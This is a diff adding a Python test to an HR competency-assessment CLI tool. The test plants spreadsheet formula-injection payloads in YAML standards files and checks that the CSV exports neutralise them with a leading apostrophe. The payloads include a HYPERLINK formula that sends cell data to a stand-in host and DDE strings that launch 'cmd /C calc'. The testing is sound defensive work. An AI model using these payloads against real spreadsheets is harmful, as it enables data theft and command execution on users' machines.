@@ -234,3 +234,44 @@ def test_source_date_epoch_dates_the_people_documents(
     assert result.exit_code == 0, result.output
     text = (project / "asesmen" / "hasil" / "kesenjangan" / "P-000.md").read_text(encoding="utf-8")
     assert text == "P-000 2026-01-01\n"
+
+
+FORMULAS = {
+    "unit_kerja: Badan Kepegawaian Daerah": 'unit_kerja: \'=HYPERLINK("http://contoh.invalid/?"&A1,"klik")\'',
+    "    nama: Integritas\n": "    nama: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n",
+    "    nama: E-learning Integritas\n": "    nama: '+cmd|'' /C calc''!A0'\n",
+    "          nama: Memenuhi Syarat\n": "          nama: '-2+3'\n",
+}
+
+
+def test_text_from_the_standards_never_runs_as_a_spreadsheet_formula(
+    project: Path, assessment: Path, run_cli: Callable[..., Result]
+) -> None:
+    """The HR office opens these tables in a spreadsheet; a unit, competency, activity or category name
+    that an unreviewed pull request made start like a formula is written as text (a leading apostrophe,
+    as OWASP recommends), in every table of every step."""
+    for path in project.rglob("*.yaml"):
+        text = path.read_text(encoding="utf-8")
+        changed = text
+        for plain, formula in FORMULAS.items():
+            changed = changed.replace(plain, formula)
+        if changed != text:
+            path.write_text(changed, encoding="utf-8")
+    assert run_cli(["check", str(project)], project).exit_code == 0
+    for step in (["gaps"], ["plan"], ["moves"], ["summary"], ["pool", "NTB.JF.ASDMA.MUDA"]):
+        result = run_cli(["people", *step, str(assessment), "--format", "csv"], project)
+        assert result.exit_code == 0, result.output
+    cells = [
+        cell
+        for table in sorted((project / "asesmen" / "hasil").rglob("*.csv"))
+        for row in csv.reader(table.open(encoding="utf-8"))
+        for cell in row
+    ]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    for shown in (
+        '\'=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'+cmd|' /C calc'!A0",
+        "'-2+3",
+    ):
+        assert shown in cells, shown
